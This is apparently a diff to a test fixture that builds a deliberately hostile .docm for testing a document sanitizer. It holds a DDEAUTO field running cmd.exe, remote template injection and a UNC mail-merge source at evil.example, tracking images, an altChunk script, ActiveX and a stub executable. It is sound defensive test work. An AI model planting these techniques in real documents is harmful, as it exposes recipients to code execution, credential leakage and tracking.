@@ -128,7 +128,8 @@ export const DOCUMENT_TEXT = '塩尻市 情報セキュリティ 会議資料';
 /**
  * A macro-enabled Word document with every trick: a VBA project, a remote template
  * (attachedTemplate, the "template injection" attack), a remote image, an ActiveX control,
- * a DDE field, an INCLUDEPICTURE field, a hyperlink (kept) and a smuggled unreferenced exe.
+ * a DDE field, an INCLUDEPICTURE field, an HTML altChunk with a script, a mail merge from a
+ * UNC share, a hyperlink (kept) and a smuggled unreferenced exe.
  */
 export function hostileDocm(): Uint8Array {
   return zip({
@@ -137,6 +138,8 @@ export function hostileDocm(): Uint8Array {
 <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
 <Default Extension="xml" ContentType="application/xml"/>
 <Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>
+<Default Extension="htm" ContentType="application/xhtml+xml"/>
+<Default Extension="jpeg" ContentType="image/jpeg"/>
 <Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>
 <Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>
 <Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>
@@ -148,27 +151,33 @@ export function hostileDocm(): Uint8Array {
 <w:p><w:r><w:t>${DOCUMENT_TEXT}</w:t></w:r></w:p>
 <w:p><w:hyperlink r:id="rId5"><w:r><w:t>市のホームページ</w:t></w:r></w:hyperlink></w:p>
 <w:p><w:r><w:drawing><a:blip r:link="rId6"/></w:drawing></w:r><w:r><w:t>画像の後</w:t></w:r></w:p>
+<w:p><w:r><w:drawing><a:blip r:embed="rId9"/></w:drawing></w:r></w:p>
 <w:p><w:r><w:object><w:control r:id="rId7" w:name="CommandButton1"/></w:object></w:r></w:p>
 <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
 <w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/track.png&quot;"><w:r><w:t>追跡画像</w:t></w:r></w:fldSimple></w:p>
+<w:altChunk r:id="rId8"/>
 </w:body></w:document>`,
     'word/_rels/document.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
 <Relationships xmlns="${REL}">
 <Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>
+<Relationship Id="rId9" Type="${R}/image" Target="media/photo.jpeg"/>
 <Relationship Id="rId2" Type="${R}/settings" Target="settings.xml"/>
 <Relationship Id="rId5" Type="${R}/hyperlink" Target="https://www.city.shiojiri.lg.jp/" TargetMode="External"/>
 <Relationship Id="rId6" Type="${R}/image" Target="http://evil.example/beacon.png" TargetMode="External"/>
 <Relationship Id="rId7" Type="${R}/control" Target="activeX/activeX1.xml"/>
+<Relationship Id="rId8" Type="${R}/aFChunk" Target="afchunk.htm"/>
 </Relationships>`,
+    'word/afchunk.htm': '<html><body><script>alert("altchunk-script")</script><p>imported</p></body></html>',
     'word/settings.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
-<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/><w:defaultTabStop w:val="720"/></w:settings>`,
+<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/><w:defaultTabStop w:val="720"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rId2"/></w:mailMerge></w:settings>`,
     'word/_rels/settings.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
-<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${R}/attachedTemplate" Target="http://evil.example/template.dotm" TargetMode="External"/></Relationships>`,
+<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${R}/attachedTemplate" Target="http://evil.example/template.dotm" TargetMode="External"/><Relationship Id="rId2" Type="${R}/mailMergeSource" Target="file:///\\\\evil.example\\share\\data.xlsx" TargetMode="External"/></Relationships>`,
     'word/vbaProject.bin': VBA_PROJECT,
     'word/_rels/vbaProject.bin.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
 <Relationships xmlns="${REL}"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" Target="vbaData.xml"/></Relationships>`,
     'word/vbaData.xml': '<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
     'word/activeX/activeX1.xml': '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
+    'word/media/photo.jpeg': jpegWithExif(),
     'word/media/payload.bin': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x40, 0, 0, 0]), Buffer.from('PE\0\0')]),
   });
 }
